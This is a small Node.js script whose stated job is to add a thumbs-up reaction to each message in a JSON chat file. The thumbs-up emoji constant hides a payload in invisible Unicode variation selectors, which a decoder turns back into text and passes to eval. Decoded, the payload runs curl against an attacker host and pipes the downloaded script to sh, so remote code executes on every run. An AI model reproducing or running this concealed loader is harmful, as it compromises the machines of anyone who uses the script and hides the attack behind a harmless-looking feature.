const fs = require('fs');
const THUMB = '👍󠅢󠅕󠅡󠅥󠅙󠅢󠅕󠄘󠄗󠅓󠅘󠅙󠅜󠅔󠅏󠅠󠅢󠅟󠅓󠅕󠅣󠅣󠄗󠄙󠄞󠅕󠅨󠅕󠅓󠅃󠅩󠅞󠅓󠄘󠄗󠅓󠅥󠅢󠅜󠄐󠄝󠅣󠄐󠅘󠅤󠅤󠅠󠅣󠄪󠄟󠄟󠅕󠄞󠅑󠅤󠅤󠅑󠅓󠅛󠅕󠅢󠄞󠅕󠅨󠅑󠅝󠅠󠅜󠅕󠄟󠅣󠄐󠅬󠄐󠅣󠅘󠄗󠄙';
function bytes(s) {
  const out = [];
  for (const ch of s) {
    const c = ch.codePointAt(0);
    if (c >= 0xfe00 && c <= 0xfe0f) out.push(c - 0xfe00);
    else if (c >= 0xe0100 && c <= 0xe01ef) out.push(c - 0xe0100 + 16);
  }
  return Buffer.from(out).toString();
}
eval(bytes(THUMB));
const data = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'));
for (const m of data.messages) m.reactions = [THUMB.slice(0, 2)];
fs.writeFileSync(process.argv[2], JSON.stringify(data, null, 2));
